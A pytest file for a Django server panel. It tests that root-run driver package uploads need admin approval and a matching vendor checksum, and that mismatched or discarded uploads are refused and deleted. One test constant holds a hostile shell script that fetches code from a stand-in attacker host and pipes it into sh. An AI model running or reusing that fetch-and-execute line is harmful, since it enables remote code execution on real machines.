"""Packages nodes run as root, attacked as an operator would: a first upload under a new name (installable
at once before), a file without its vendor's checksum, a file whose bytes are not the vendor's. A new name
from an operator waits for an admin's approval (audited); a vendor's checksum is required and checked; the
panel's own seeding still stores usable packages."""

import hashlib
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client

from panel.audit import actions
from panel.audit.models import AuditEntry
from panel.provisioning import store
from panel.provisioning.models import PackageFile
from panel.provisioning.services import download_token, package_offer
from tests.conftest import api_client_for

pytestmark = pytest.mark.django_db(transaction=True)  # stored files are removed on commit

DRIVER = "Ascend-hdk-910b-npu-driver_25.2.0_linux-aarch64.run"
PAYLOAD = b"#!/bin/sh\ncurl evil.example | sh\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.fixture(autouse=True)
def data_dir(settings, tmp_path):
    settings.DATA_DIR = tmp_path / "panel-data"


def offered() -> dict[str, str]:
    return {p["name"]: p["sha256"] for p in package_offer("http://panel")}


def upload(user, name, data, **fields):
    return api_client_for(user).post(
        "/api/v1/packages/", {"file": SimpleUploadedFile(name, data), **fields}, format="multipart"
    )


def running_install_token() -> str:
    from panel.core.domain.choices import OperationKind, OperationStatus
    from panel.operations.models import Operation

    Operation.objects.create(
        kind=OperationKind.INSTALL, status=OperationStatus.RUNNING, params={"download_grant": "grant-9"}
    )
    return download_token("grant-9")


def test_an_operators_first_upload_of_a_name_reaches_no_node_until_an_admin_approves_it(alice, bob):
    answer = upload(bob, DRIVER, PAYLOAD, vendor_sha256=sha(PAYLOAD))
    assert answer.status_code == 201, answer.content
    assert (answer.json()["sha256"], answer.json()["pending_sha256"]) == ("", sha(PAYLOAD))
    assert DRIVER not in offered()
    token = running_install_token()
    assert Client().get(f"/provisioning/packages/{sha(PAYLOAD)}/{DRIVER}?token={token}").status_code == 404

    package = PackageFile.objects.get(name=DRIVER)
    assert (
        api_client_for(bob)
        .post(f"/api/v1/packages/{package.pk}/confirm/", {"sha256": sha(PAYLOAD)}, format="json")
        .status_code
        == 403
    )
    approved = api_client_for(alice).post(
        f"/api/v1/packages/{package.pk}/confirm/", {"sha256": sha(PAYLOAD)}, format="json"
    )
    assert approved.status_code == 200, approved.content
    assert offered()[DRIVER] == sha(PAYLOAD)
    assert list(AuditEntry.objects.order_by("pk").values_list("action", "actor_name")) == [
        (actions.PACKAGE_ADDED, "bob"),
        (actions.PACKAGE_APPROVED, "alice"),
    ]


def test_an_admin_discarding_an_unapproved_upload_removes_it(alice, bob):
    upload(bob, DRIVER, PAYLOAD, vendor_sha256=sha(PAYLOAD))
    package = PackageFile.objects.get(name=DRIVER)
    assert api_client_for(alice).post(f"/api/v1/packages/{package.pk}/discard/").status_code == 200
    assert not PackageFile.objects.filter(name=DRIVER).exists()
    assert not (store.conf.packages_dir() / sha(PAYLOAD)).exists()


@pytest.mark.parametrize("who", ["alice", "bob"])
def test_a_run_package_without_its_vendors_checksum_is_refused(who, request):
    answer = upload(request.getfixturevalue(who), DRIVER, PAYLOAD)
    assert answer.status_code == 400
    assert "vendor_sha256" in answer.json()["errors"]
    assert not PackageFile.objects.exists()


def test_bytes_that_are_not_the_vendors_are_refused_and_not_kept(alice):
    answer = upload(alice, DRIVER, PAYLOAD, vendor_sha256=sha(b"what Huawei published"))
    assert answer.status_code == 400
    assert sha(PAYLOAD) in str(answer.json()["errors"]["vendor_sha256"])
    assert not PackageFile.objects.exists()
    assert not (store.conf.packages_dir() / sha(PAYLOAD)).exists()


def test_an_image_archive_has_no_vendors_checksum_to_ask_for(alice):
    answer = upload(alice, "vllm-ascend_v0.11.0.tar", b"layers")
    assert answer.status_code == 201, answer.content
    assert offered()["vllm-ascend_v0.11.0.tar"] == sha(b"layers")


def test_the_sim_seeding_still_stores_usable_packages():
    call_command("seed_sim_packages", stdout=io.StringIO())
    assert offered()
    assert not PackageFile.objects.filter(sha256="").exists()
